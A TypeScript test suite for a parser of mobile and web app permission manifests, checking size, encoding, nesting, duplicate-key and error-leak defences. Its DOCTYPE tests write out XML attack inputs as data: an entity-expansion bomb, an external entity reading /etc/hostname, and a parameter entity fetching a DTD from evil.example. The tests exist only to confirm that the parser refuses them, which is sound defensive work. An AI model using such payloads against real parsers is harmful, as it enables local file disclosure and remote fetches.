import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { DeclarationError } from "./declaration-error.ts";
import { MOST_BYTES, MOST_LEVELS } from "./limits.ts";
import { readDeclaration } from "./read-declaration.ts";

const FILES = ["AndroidManifest.xml", "Info.plist", "module.json5", "app.json", "web-permissions.json"];

/** What went wrong: anything but the typed error fails the test. */
function refusal(file: string, content: string | Uint8Array): DeclarationError | undefined {
  try {
    readDeclaration(file, content);
    return undefined;
  } catch (error) {
    if (!(error instanceof DeclarationError)) throw error;
    return error;
  }
}

describe("readDeclaration", () => {
  it.each([
    ["app/src/main/AndroidManifest.xml", "<manifest/>", "android"],
    ["App-Info.plist", '<plist version="1.0"><dict/></plist>', "ios"],
    ["entry\\src\\main\\module.json5", "{ module: {} }", "harmonyos"],
    ["miniprogram/app.json", '{ "pages": [] }', "wechat"],
    ["web-permissions.json", "{}", "web"],
  ])("knows %s by its name", (file, text, platform) => {
    expect(readDeclaration(file, text).platform).toBe(platform);
  });

  it.each(["myapp.json", "manifest.xml", "module.json", "", "AndroidManifest.xml.bak"])(
    "does not guess what %j could be",
    (file) => {
      expect(refusal(file, "{}")?.code).toBe("UNKNOWN_KIND");
    },
  );

  it.each(FILES)("refuses an empty %s", (file) => {
    expect(refusal(file, "")?.code).toBe("MALFORMED");
  });

  it.each(FILES)("refuses a %s larger than 1 MiB before it reads it", (file) => {
    expect(refusal(file, " ".repeat(MOST_BYTES + 1))?.code).toBe("TOO_LARGE");
    expect(refusal(file, "\u5b9e".repeat(MOST_BYTES / 2))?.code).toBe("TOO_LARGE");
  });

  it.each(FILES)("refuses bytes that are not UTF-8 in %s", (file) => {
    expect(refusal(file, new Uint8Array([0xff, 0xfe, 0x3c, 0x00]))?.code).toBe("NOT_TEXT");
  });

  it("reads past a byte order mark", () => {
    expect(readDeclaration("app.json", '\uFEFF{ "pages": [] }').permissions).toEqual([]);
    expect(readDeclaration("AndroidManifest.xml", "\uFEFF<manifest/>").permissions).toEqual([]);
  });

  it.each([
    ["AndroidManifest.xml", `${"<a>".repeat(MOST_LEVELS + 1)}${"</a>".repeat(MOST_LEVELS + 1)}`],
    ["Info.plist", "<a>".repeat(100_000)],
    ["module.json5", "[".repeat(500_000)],
    ["app.json", `${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}`],
  ])("refuses deep nesting in %s", (file, text) => {
    expect(refusal(file, text)?.code).toBe("TOO_DEEP");
  });

  it.each([
    [
      "entities that grow",
      `<!DOCTYPE m [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><manifest>&b;</manifest>`,
    ],
    [
      "an entity from a file",
      `<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/hostname">]><manifest>&x;</manifest>`,
    ],
    ["a parameter entity", `<!DOCTYPE m [<!ENTITY % p SYSTEM "http://evil.example/p.dtd">%p;]><manifest/>`],
  ])("refuses %s", (_, text) => {
    expect(refusal("AndroidManifest.xml", text)?.code).toBe("DOCTYPE_SUBSET");
  });

  it("refuses an entity that nobody declared", () => {
    expect(refusal("Info.plist", "<plist><dict>&secret;</dict></plist>")).toMatchObject({
      code: "MALFORMED",
      rule: "must be well-formed XML",
      line: 1,
    });
  });

  it("refuses a member that is named twice, since tools differ on which counts", () => {
    const text = '{ "pages": [],\n "permission": {},\n "permission": { "scope.camera": { "desc": "x" } } }';
    expect(refusal("app.json", text)).toMatchObject({ code: "MALFORMED", line: 3 });
  });

  it("takes members with the names of JavaScript's own for what they are", () => {
    const text =
      '{ "pages": [], "permission": { "__proto__": { "desc": "x" }, "constructor": { "desc": "y" } } }';
    expect(readDeclaration("app.json", text).permissions.map(({ name }) => name)).toEqual([
      "__proto__",
      "constructor",
    ]);
  });

  it("repeats nothing of the file in an error", () => {
    const secret = "not-for-a-log-16400000001";
    for (const file of FILES) {
      for (const text of [secret, `{"${secret}":`, `<${secret}`, `{"pages":[],"permission":"${secret}"}`]) {
        expect(refusal(file, text)?.message).not.toContain(secret);
      }
    }
  });
});

describe("whatever a file holds", () => {
  const noise = fc.oneof(
    fc.string({ unit: "binary", maxLength: 200 }),
    fc.uint8Array({ maxLength: 200 }),
    fc.json(),
    fc
      .array(
        fc.constantFrom(
          "<",
          ">",
          "/",
          "a",
          "manifest",
          "<plist>",
          "<dict>",
          "<key>",
          "&",
          '"',
          "[",
          "<!DOCTYPE ",
        ),
      )
      .map((parts) => parts.join("")),
  );

  it("the readers throw nothing but the typed error", () => {
    fc.assert(
      fc.property(fc.constantFrom(...FILES), noise, (file, content) => {
        expect(refusal(file, content)?.file ?? file).toBe(file);
      }),
      { numRuns: 2000 },
    );
  });

  it("a value in the wrong shape is a typed error too", () => {
    const parts = [
      "requiredBackgroundModes",
      "permission",
      "requiredPrivateInfos",
      "plugins",
      "subPackages",
      "__usePrivacyCheck__",
    ];
    fc.assert(
      fc.property(fc.constantFrom(...parts), fc.jsonValue(), (part, value) => {
        const wrong = {
          "app.json": { pages: [], [part]: value },
          "module.json5": { module: { requestPermissions: value } },
          "web-permissions.json": { permissionsPolicy: value, scripts: value },
        };
        for (const [file, content] of Object.entries(wrong)) {
          expect(refusal(file, JSON.stringify(content))?.code ?? "MALFORMED").toMatch(
            /^(?:MALFORMED|TOO_DEEP)$/,
          );
        }
      }),
    );
  });

  it("a permission is found wherever it stands among others", () => {
    const name = fc.stringMatching(/^[A-Z_]{1,20}$/);
    fc.assert(
      fc.property(fc.array(name, { maxLength: 20 }), (names) => {
        const lines = names.map((one) => `<uses-permission android:name="android.permission.${one}"/>`);
        const text = `<manifest xmlns:android="http://schemas.android.com/apk/res/android">\n${lines.join("\n")}\n</manifest>`;
        expect(readDeclaration("AndroidManifest.xml", text).permissions).toEqual(
          names.map((one, index) => ({ name: `android.permission.${one}`, line: index + 2, column: 1 })),
        );
      }),
    );
  });
});
